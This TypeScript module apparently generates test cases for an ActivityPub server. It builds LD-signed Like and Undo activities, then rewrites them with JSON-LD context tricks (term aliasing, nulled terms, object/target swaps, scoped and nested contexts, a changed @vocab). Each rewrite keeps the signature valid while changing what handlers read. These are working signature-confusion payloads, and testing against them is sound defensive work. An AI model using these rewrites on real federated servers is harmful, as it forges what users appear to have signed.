/**
 * Rewritings of an LD-signed Like that keep its expanded graph (so its RsaSignature2017 still
 * verifies) while changing what a reader of the JSON keys sees. The signed original likes
 * `liked` and names `other` as its target; each trick makes the keys say something else.
 */
type Json = Record<string, unknown>;

export const AS = 'https://www.w3.org/ns/activitystreams';
export const SEC = 'https://w3id.org/security/v1';
const SIG = { RsaSignature2017: 'https://w3id.org/security#RsaSignature2017' };

/** The original, to be LD-signed by `actor`: a Like of `liked` (with a target, so a triple exists to re-point to). */
export function likeToSign(input: { id: string; actor: string; liked: string; other: string }): Json {
  return { '@context': [AS, SEC, SIG], id: input.id, type: 'Like', actor: input.actor, object: input.liked, target: input.other };
}

/** The same Like, undone: an Undo embedding it (for the nested-context trick). */
export function undoLikeToSign(input: { id: string; actor: string; like: Json }): Json {
  const { '@context': _context, ...like } = input.like;
  return { '@context': [AS, SEC, SIG], id: input.id, type: 'Undo', actor: input.actor, object: like };
}

const swap = { object: { '@id': 'as:target', '@type': '@id' }, target: { '@id': 'as:object', '@type': '@id' } };

/** Each trick applied to a signed Like (from likeToSign): what handlers would read instead. */
export function likeTricks(signed: Json): { name: string; doc: Json; reads: string }[] {
  const context = signed['@context'] as unknown[];
  const liked = signed.object as string;
  const other = signed.target as string;
  return [
    {
      name: 'term aliasing (Dislike → as:Like)',
      doc: { ...signed, '@context': [...context, { Dislike: 'as:Like' }], type: 'Dislike' },
      reads: 'a Dislike',
    },
    {
      name: 'nulling a term (object: null, sObject: as:object)',
      doc: { ...signed, '@context': [...context, { object: null, sObject: { '@id': 'as:object', '@type': '@id' } }], sObject: liked, object: other },
      reads: 'a Like of the other video',
    },
    {
      name: 're-pointing to an existing triple (object ⇄ target)',
      doc: { ...signed, '@context': [...context, swap], object: other, target: liked },
      reads: 'a Like of the other video',
    },
    {
      name: 'a type-scoped context (Like redefines object and target)',
      doc: { ...signed, '@context': [...context, { Like: { '@id': 'as:Like', '@context': swap } }], object: other, target: liked },
      reads: 'a Like of the other video',
    },
    {
      name: '@vocab changed',
      doc: { ...signed, '@context': [...context, { '@vocab': `${AS}#` }] },
      reads: 'the same Like, under a vocabulary that signs what it did not',
    },
  ];
}

/** The nested-context trick on a signed Undo of a Like: the embedded Like's own @context swaps object and target. */
export function undoTrick(signedUndo: Json): { name: string; doc: Json; reads: string } {
  const like = signedUndo.object as Json;
  return {
    name: 'a nested context (the embedded Like swaps object and target)',
    doc: { ...signedUndo, object: { '@context': swap, ...like, object: like.target, target: like.object } },
    reads: 'an Undo of a Like of the other video',
  };
}
